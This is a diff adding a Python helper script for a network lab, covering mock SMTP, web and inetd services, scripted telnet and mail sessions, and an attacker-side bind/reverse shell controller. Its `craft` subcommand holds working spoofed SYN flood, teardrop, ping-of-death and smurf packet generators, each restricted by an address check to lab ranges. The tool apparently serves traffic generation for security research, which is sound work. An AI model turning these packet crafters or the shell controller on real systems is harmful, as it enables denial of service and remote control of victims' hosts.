@@ -1,0 +1,572 @@
+#!/usr/bin/env python3
+"""Small stdlib-only helpers that lab/run.py starts INSIDE lab network namespaces (never in the root one).
+
+Subcommands:
+  inetd     a minimal inetd: accept on a port, fork, hand the socket as fd 0/1/2 to a program (telnetd)
+  smtpd     a small SMTP server (EHLO, AUTH PLAIN/LOGIN, MAIL, RCPT, DATA) writing into a Maildir
+  webapp    the web namespace's app behind nginx: JSON API, uploads and a form login
+  sntp      an NTP (SNTP v4) client query
+  mail      benign POP3/IMAP/SMTP client sessions
+  telnet    a scripted telnet login + commands (benign sessions and U2R sessions)
+  shell     attacker's side of a bind shell (connect) or reverse shell (listen): sends commands, reads output
+  craft     raw packets: spoofed SYN flood, teardrop, ping of death, smurf (IPv4 broadcast), smurf6 (ff02::1)
+
+Every address given to `craft`, `shell`, `sntp`, `mail` and `telnet` is checked against the lab ranges
+(10.77.0.0/16, fd77::/48) and refused otherwise.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import contextlib
+import ipaddress
+import json
+import os
+import random
+import select
+import signal
+import socket
+import socketserver
+import struct
+import sys
+import time
+import warnings
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
+from urllib.parse import parse_qs, urlparse
+
+LAB_NETS = (ipaddress.ip_network("10.77.0.0/16"), ipaddress.ip_network("fd77::/48"))
+
+
+def lab_addr(a: str) -> str:
+    """Refuse any address outside the lab ranges (broadcast of a lab subnet and ff02::1 are allowed)."""
+    a = a.split("%")[0]
+    ip = ipaddress.ip_address(a)
+    if ip == ipaddress.ip_address("ff02::1"):
+        return a
+    if not any(ip in n for n in LAB_NETS):
+        raise SystemExit(f"refusing non-lab address {a}")
+    return a
+
+
+# ---------------------------------------------------------------- inetd
+def cmd_inetd(a: argparse.Namespace) -> None:
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+    s.bind(("::", a.port))
+    s.listen(64)
+    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
+    while True:
+        c, _ = s.accept()
+        pid = os.fork()
+        if pid == 0:
+            s.close()
+            os.setsid()
+            for fd in (0, 1, 2):
+                os.dup2(c.fileno(), fd)
+            c.close()
+            os.execv(a.argv[0], a.argv)
+        c.close()
+
+
+# ---------------------------------------------------------------- smtpd
+class SMTPHandler(socketserver.StreamRequestHandler):
+    cfg: ClassVar[dict] = {}
+
+    def out(self, line: str) -> None:
+        self.wfile.write((line + "\r\n").encode())
+        self.wfile.flush()
+
+    def handle(self) -> None:
+        cfg = self.cfg
+        self.out(f"220 {cfg['name']} ESMTP Postfix (Debian/GNU)")
+        mail_from, rcpts, authed = None, [], False
+        while True:
+            line = self.rfile.readline(4096)
+            if not line:
+                return
+            cmd = line.decode(errors="replace").strip()
+            up = cmd.upper()
+            if up.startswith(("EHLO", "HELO")):
+                if up.startswith("EHLO"):
+                    self.wfile.write(
+                        f"250-{cfg['name']}\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
+                        "250-AUTH PLAIN LOGIN\r\n250-8BITMIME\r\n250 SMTPUTF8\r\n".encode()
+                    )
+                    self.wfile.flush()
+                else:
+                    self.out(f"250 {cfg['name']}")
+            elif up.startswith("AUTH"):
+                parts = cmd.split()
+                user = pw = None
+                try:
+                    if len(parts) >= 2 and parts[1].upper() == "PLAIN":
+                        if len(parts) == 2:
+                            self.out("334 ")
+                            blob = self.rfile.readline().strip()
+                        else:
+                            blob = parts[2].encode()
+                        _, user, pw = base64.b64decode(blob).decode(errors="replace").split("\0")
+                    elif len(parts) >= 2 and parts[1].upper() == "LOGIN":
+                        if len(parts) == 3:
+                            user = base64.b64decode(parts[2]).decode(errors="replace")
+                        else:
+                            self.out("334 VXNlcm5hbWU6")
+                            user = base64.b64decode(self.rfile.readline().strip()).decode(errors="replace")
+                        self.out("334 UGFzc3dvcmQ6")
+                        pw = base64.b64decode(self.rfile.readline().strip()).decode(errors="replace")
+                except Exception:
+                    self.out("501 5.5.2 Cannot decode response")
+                    continue
+                if user == cfg["user"] and pw == cfg["password"]:
+                    authed = True
+                    self.out("235 2.7.0 Authentication successful")
+                else:
+                    time.sleep(0.3)
+                    self.out("535 5.7.8 Error: authentication failed: authentication failure")
+            elif up.startswith("MAIL FROM"):
+                mail_from, rcpts = cmd[10:].strip(), []
+                self.out("250 2.1.0 Ok")
+            elif up.startswith("RCPT TO"):
+                if mail_from is None:
+                    self.out("503 5.5.1 Error: need MAIL command")
+                else:
+                    rcpts.append(cmd[8:].strip())
+                    self.out("250 2.1.5 Ok")
+            elif up == "DATA":
+                if not rcpts:
+                    self.out("554 5.5.1 Error: no valid recipients")
+                    continue
+                self.out("354 End data with <CR><LF>.<CR><LF>")
+                body = []
+                while True:
+                    dl = self.rfile.readline(65536)
+                    if not dl or dl in (b".\r\n", b".\n"):
+                        break
+                    body.append(dl)
+                qid = f"{random.getrandbits(40):010X}"
+                md = cfg.get("maildir")
+                if md:
+                    try:
+                        with open(os.path.join(md, "new", f"{time.time():.6f}.{qid}.lab"), "wb") as f:
+                            f.write(b"".join(body))
+                    except OSError:
+                        pass
+                self.out(f"250 2.0.0 Ok: queued as {qid}")
+                mail_from, rcpts = None, []
+            elif up == "RSET":
+                mail_from, rcpts = None, []
+                self.out("250 2.0.0 Ok")
+            elif up == "NOOP":
+                self.out("250 2.0.0 Ok")
+            elif up == "QUIT":
+                self.out("221 2.0.0 Bye")
+                return
+            elif up.startswith("VRFY"):
+                self.out("252 2.0.0 Cannot VRFY user")
+            else:
+                self.out("502 5.5.2 Error: command not recognized")
+            _ = authed
+
+
+class DualStackTCPServer(socketserver.ThreadingTCPServer):
+    address_family = socket.AF_INET6
+    allow_reuse_address = True
+    daemon_threads = True
+
+    def server_bind(self) -> None:
+        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        super().server_bind()
+
+
+def cmd_smtpd(a: argparse.Namespace) -> None:
+    SMTPHandler.cfg = {"name": a.name, "user": a.user, "password": a.password, "maildir": a.maildir}
+    DualStackTCPServer(("::", a.port), SMTPHandler).serve_forever()
+
+
+# ---------------------------------------------------------------- webapp
+class AppHandler(BaseHTTPRequestHandler):
+    server_version = "gunicorn"
+    sys_version = ""
+    cfg: ClassVar[dict] = {}
+
+    def log_message(self, *args) -> None:  # quiet
+        pass
+
+    def send(self, code: int, body: bytes, ctype: str = "application/json", headers: dict | None = None) -> None:
+        self.send_response(code)
+        self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(body)))
+        for k, v in (headers or {}).items():
+            self.send_header(k, v)
+        self.end_headers()
+        if self.command != "HEAD":
+            self.wfile.write(body)
+
+    def do_GET(self) -> None:
+        u = urlparse(self.path)
+        q = parse_qs(u.query)
+        if u.path.startswith("/api/status"):
+            self.send(200, json.dumps({"status": "ok", "ts": time.time(), "load": random.random()}).encode())
+        elif u.path.startswith("/api/items"):
+            page = int((q.get("page") or ["1"])[0]) if (q.get("page") or ["1"])[0].isdigit() else 1
+            items = [
+                {"id": page * 100 + i, "name": f"item-{page}-{i}", "price": round(random.random() * 90, 2)}
+                for i in range(random.randint(5, 40))
+            ]
+            self.send(200, json.dumps({"page": page, "items": items}).encode())
+        elif u.path.startswith("/api/"):
+            self.send(404, b'{"error":"not found"}')
+        elif u.path.startswith("/app/login"):
+            self.send(
+                200,
+                b"<html><body><form method='post' action='/app/login'>"
+                b"<input name='username'><input name='password' type='password'>"
+                b"<button>Sign in</button></form></body></html>",
+                "text/html",
+            )
+        elif u.path.startswith("/app/home"):
+            if "session=" in (self.headers.get("Cookie") or ""):
+                self.send(200, b"<html><body>Welcome back. <a href='/app/logout'>logout</a></body></html>", "text/html")
+            else:
+                self.send(302, b"", "text/html", {"Location": "/app/login"})
+        else:
+            self.send(404, b"<html><body>Not Found</body></html>", "text/html")
+
+    def do_HEAD(self) -> None:
+        self.do_GET()
+
+    def do_POST(self) -> None:
+        n = min(int(self.headers.get("Content-Length") or 0), 50_000_000)
+        body = self.rfile.read(n) if n else b""
+        u = urlparse(self.path)
+        if u.path.startswith("/app/login"):
+            f = parse_qs(body.decode(errors="replace"))
+            user = (f.get("username") or [""])[0]
+            pw = (f.get("password") or [""])[0]
+            if user == self.cfg["user"] and pw == self.cfg["password"]:
+                self.send(
+                    302,
+                    b"",
+                    "text/html",
+                    {"Location": "/app/home", "Set-Cookie": f"session={random.getrandbits(64):x}; HttpOnly"},
+                )
+            else:
+                self.send(200, b"<html><body>Invalid username or password</body></html>", "text/html")
+        elif u.path.startswith("/api/"):
+            self.send(201, json.dumps({"received": len(body), "id": random.getrandbits(32)}).encode())
+        else:
+            self.send(405, b"<html><body>Method Not Allowed</body></html>", "text/html")
+
+
+def cmd_webapp(a: argparse.Namespace) -> None:
+    AppHandler.cfg = {"user": a.user, "password": a.password}
+    srv = ThreadingHTTPServer((a.bind, a.port), AppHandler)
+    srv.daemon_threads = True
+    srv.serve_forever()
+
+
+# ---------------------------------------------------------------- sntp
+def cmd_sntp(a: argparse.Namespace) -> None:
+    host = lab_addr(a.server)
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    for _ in range(a.count):
+        now = time.time() + 2208988800
+        pkt = struct.pack("!BBBb11I", (0 << 6) | (4 << 3) | 3, 0, 6, -20, *([0] * 9), int(now), int((now % 1) * 2**32))
+        s.sendto(pkt, (host, 123))
+        with contextlib.suppress(OSError):
+            s.recvfrom(512)
+        time.sleep(a.interval)
+
+
+# ---------------------------------------------------------------- mail client
+def cmd_mail(a: argparse.Namespace) -> None:
+    import imaplib
+    import poplib
+    import smtplib
+
+    host = lab_addr(a.host)
+    if a.proto == "pop3":
+        p = poplib.POP3(host, 110, timeout=10)
+        p.user(a.user)
+        p.pass_(a.password)
+        n, _ = p.stat()
+        for i in range(1, min(n, a.max) + 1):
+            p.retr(i)
+        p.quit()
+    elif a.proto == "imap":
+        m = imaplib.IMAP4(host, 143, timeout=10)
+        m.login(a.user, a.password)
+        m.select("INBOX")
+        _, data = m.search(None, "ALL")
+        for num in (data[0].split() if data and data[0] else [])[: a.max]:
+            m.fetch(num, "(RFC822)")
+        m.logout()
+    else:
+        s = smtplib.SMTP(host, 25, timeout=10)
+        s.ehlo("client.lab")
+        if a.password:
+            s.login(a.user, a.password)
+        for i in range(a.max):
+            body = f"Subject: report {i}\r\n\r\n{'lorem ipsum dolor sit amet ' * random.randint(5, 400)}\r\n"
+            s.sendmail(f"{a.user}@lab", [f"{a.user}@lab"], body)
+        s.quit()
+
+
+# ---------------------------------------------------------------- telnet
+def cmd_telnet(a: argparse.Namespace) -> None:
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        import telnetlib
+    host = lab_addr(a.host)
+    t = telnetlib.Telnet(host, a.port, timeout=15)
+    t.read_until(b"login: ", 15)
+    t.write(a.user.encode() + b"\r\n")
+    t.read_until(b"assword: ", 15)
+    t.write(a.password.encode() + b"\r\n")
+    time.sleep(1.5)
+    t.read_very_eager()
+    for line in a.commands.split(";;"):
+        line = line.strip("\n")
+        if line.startswith("#sleep "):
+            time.sleep(float(line.split()[1]))
+            continue
+        # typed char by char, as a person (or a script driving a pty) would
+        for ch in line:
+            t.write(ch.encode())
+            time.sleep(random.uniform(0.02, 0.12) if a.typing else 0)
+        t.write(b"\r\n")
+        time.sleep(random.uniform(0.4, 1.5))
+        try:
+            t.read_very_eager()
+        except EOFError:
+            break
+    try:
+        t.write(b"exit\r\n")
+        time.sleep(0.5)
+        t.read_very_eager()
+    except (EOFError, OSError):
+        pass
+    t.close()
+
+
+# ---------------------------------------------------------------- shell (bind/reverse) controller
+def cmd_shell(a: argparse.Namespace) -> None:
+    if a.mode == "connect":
+        host = lab_addr(a.host)
+        c = socket.create_connection((host, a.port), timeout=15)
+    else:
+        bind = lab_addr(a.host)
+        fam = socket.AF_INET6 if ":" in bind else socket.AF_INET
+        ls = socket.socket(fam, socket.SOCK_STREAM)
+        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        ls.bind((bind, a.port))
+        ls.listen(1)
+        ls.settimeout(a.wait)
+        c, _ = ls.accept()
+        ls.close()
+    c.settimeout(None)
+    for line in a.commands.split(";;"):
+        c.sendall(line.encode() + b"\n")
+        end = time.time() + random.uniform(0.5, 1.5)
+        while time.time() < end:
+            r, _, _ = select.select([c], [], [], 0.2)
+            if r and not c.recv(65536):
+                break
+    try:
+        c.sendall(b"exit\n")
+        c.shutdown(socket.SHUT_WR)
+        c.settimeout(3)
+        while c.recv(65536):
+            pass
+    except OSError:
+        pass
+    c.close()
+
+
+# ---------------------------------------------------------------- raw packet crafting
+def csum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    s = (s >> 16) + (s & 0xFFFF)
+    s += s >> 16
+    return ~s & 0xFFFF
+
+
+def ip4hdr(
+    src: str, dst: str, proto: int, payload_len: int, ident: int, frag_off: int = 0, mf: bool = False, ttl: int = 64
+) -> bytes:
+    flags_frag = (0x2000 if mf else 0) | (frag_off // 8)
+    h = struct.pack(
+        "!BBHHHBBH4s4s",
+        0x45,
+        0,
+        20 + payload_len,
+        ident,
+        flags_frag,
+        ttl,
+        proto,
+        0,
+        socket.inet_aton(src),
+        socket.inet_aton(dst),
+    )
+    return h[:10] + struct.pack("!H", csum(h)) + h[12:]
+
+
+def raw4() -> socket.socket:
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    return s
+
+
+def pace(i: int, t0: float, interval: float) -> None:
+    d = t0 + i * interval - time.time()
+    if d > 0:
+        time.sleep(d)
+
+
+def cmd_craft(a: argparse.Namespace) -> None:
+    rng = random.Random(a.seed)
+    dst = lab_addr(a.dst)
+    t0 = time.time()
+    if a.kind == "synflood":
+        net = ipaddress.ip_network(a.spoof)
+        assert any(net.subnet_of(n) for n in LAB_NETS if n.version == 4), "spoof range must be inside the lab"
+        hosts = [str(h) for h in net.hosts()]
+        s = raw4()
+        for i in range(a.count):
+            src = rng.choice(hosts)
+            sport, seq = rng.randint(1024, 65535), rng.getrandbits(32)
+            opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + b"\x01\x01" + b"\x01\x03\x03\x07"
+            off = (20 + len(opts)) // 4
+            tcp = struct.pack("!HHIIBBHHH", sport, a.dport, seq, 0, off << 4, 0x02, 64240, 0, 0) + opts
+            pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+            s.sendto(ip4hdr(src, dst, 6, len(tcp), rng.getrandbits(16), ttl=rng.choice((64, 128, 255))) + tcp, (dst, 0))
+            pace(i, t0, a.interval)
+    elif a.kind == "teardrop":
+        # classic teardrop: a UDP datagram in two fragments whose second one overlaps the first and is too short
+        src = lab_addr(a.src)
+        s = raw4()
+        for i in range(a.count):
+            ident = rng.getrandbits(16)
+            size = rng.choice((28, 36, 56))
+            udp = struct.pack("!HHHH", rng.randint(1024, 65535), a.dport, 8 + size, 0) + os.urandom(size)
+            s.sendto(ip4hdr(src, dst, 17, len(udp), ident, 0, True) + udp, (dst, 0))
+            tail = os.urandom(rng.choice((2, 4, 8)))
+            s.sendto(ip4hdr(src, dst, 17, len(tail), ident, 8 * rng.choice((1, 2, 3)), False) + tail, (dst, 0))
+            pace(i, t0, a.interval)
+    elif a.kind == "pod":
+        # ping of death: an ICMP echo request whose fragments reassemble to more than 65535 bytes
+        src = lab_addr(a.src)
+        s = raw4()
+        frag = 1480
+        for i in range(a.count):
+            ident = rng.getrandbits(16)
+            total = 65_540 + rng.randint(0, 400)
+            payload = b"\x00" * (total - 8)
+            icmp = struct.pack("!BBHHH", 8, 0, 0, ident, i) + payload
+            icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
+            off = 0
+            while off < len(icmp):
+                chunk = icmp[off : off + frag]
+                last = off + frag >= len(icmp)
+                s.sendto(ip4hdr(src, dst, 1, len(chunk), ident, off, not last) + chunk, (dst, 0))
+                off += frag
+            pace(i, t0, a.interval)
+    elif a.kind == "smurf":
+        victim = lab_addr(a.src)
+        s = raw4()
+        for i in range(a.count):
+            icmp = struct.pack("!BBHHH", 8, 0, 0, rng.getrandbits(16), i) + os.urandom(a.size)
+            icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
+            s.sendto(ip4hdr(victim, dst, 1, len(icmp), rng.getrandbits(16)) + icmp, (dst, 0))
+            pace(i, t0, a.interval)
+    elif a.kind == "smurf6":
+        victim = lab_addr(a.src)
+        ifindex = socket.if_nametoindex(a.iface)
+        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        for i in range(a.count):
+            body = struct.pack("!BBHHH", 128, 0, 0, rng.getrandbits(16), i) + os.urandom(a.size)
+            src_b, dst_b = socket.inet_pton(socket.AF_INET6, victim), socket.inet_pton(socket.AF_INET6, dst)
+            pseudo = src_b + dst_b + struct.pack("!I3xB", len(body), 58)
+            body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
+            hdr = struct.pack("!IHBB", 6 << 28, len(body), 58, 64) + src_b + dst_b
+            s.sendto(hdr + body, (dst, 0, 0, ifindex))
+            pace(i, t0, a.interval)
+    else:
+        raise SystemExit(f"unknown kind {a.kind}")
+
+
+def main() -> None:
+    p = argparse.ArgumentParser()
+    sub = p.add_subparsers(dest="cmd", required=True)
+    q = sub.add_parser("inetd")
+    q.add_argument("--port", type=int, required=True)
+    q.add_argument("argv", nargs="+")
+    q = sub.add_parser("smtpd")
+    q.add_argument("--port", type=int, default=25)
+    q.add_argument("--name", default="mail.lab")
+    q.add_argument("--user", required=True)
+    q.add_argument("--password", required=True)
+    q.add_argument("--maildir")
+    q = sub.add_parser("webapp")
+    q.add_argument("--bind", default="127.0.0.1")
+    q.add_argument("--port", type=int, default=8080)
+    q.add_argument("--user", required=True)
+    q.add_argument("--password", required=True)
+    q = sub.add_parser("sntp")
+    q.add_argument("--server", required=True)
+    q.add_argument("--count", type=int, default=1)
+    q.add_argument("--interval", type=float, default=1.0)
+    q = sub.add_parser("mail")
+    q.add_argument("--proto", choices=("pop3", "imap", "smtp"), required=True)
+    q.add_argument("--host", required=True)
+    q.add_argument("--user", required=True)
+    q.add_argument("--password", default="")
+    q.add_argument("--max", type=int, default=3)
+    q = sub.add_parser("telnet")
+    q.add_argument("--host", required=True)
+    q.add_argument("--port", type=int, default=23)
+    q.add_argument("--user", required=True)
+    q.add_argument("--password", required=True)
+    q.add_argument("--commands", required=True, help="';;'-separated command lines")
+    q.add_argument("--typing", action="store_true")
+    q = sub.add_parser("shell")
+    q.add_argument("--mode", choices=("connect", "listen"), required=True)
+    q.add_argument("--host", required=True)
+    q.add_argument("--port", type=int, required=True)
+    q.add_argument("--wait", type=float, default=20)
+    q.add_argument("--commands", required=True)
+    q = sub.add_parser("craft")
+    q.add_argument("kind")
+    q.add_argument("--dst", required=True)
+    q.add_argument("--src", default="")
+    q.add_argument("--spoof", default="")
+    q.add_argument("--dport", type=int, default=80)
+    q.add_argument("--count", type=int, default=100)
+    q.add_argument("--interval", type=float, default=0.001)
+    q.add_argument("--size", type=int, default=56)
+    q.add_argument("--iface", default="eth0")
+    q.add_argument("--seed", type=int, default=0)
+    a = p.parse_args()
+    {
+        "inetd": cmd_inetd,
+        "smtpd": cmd_smtpd,
+        "webapp": cmd_webapp,
+        "sntp": cmd_sntp,
+        "mail": cmd_mail,
+        "telnet": cmd_telnet,
+        "shell": cmd_shell,
+        "craft": cmd_craft,
+    }[a.cmd](a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
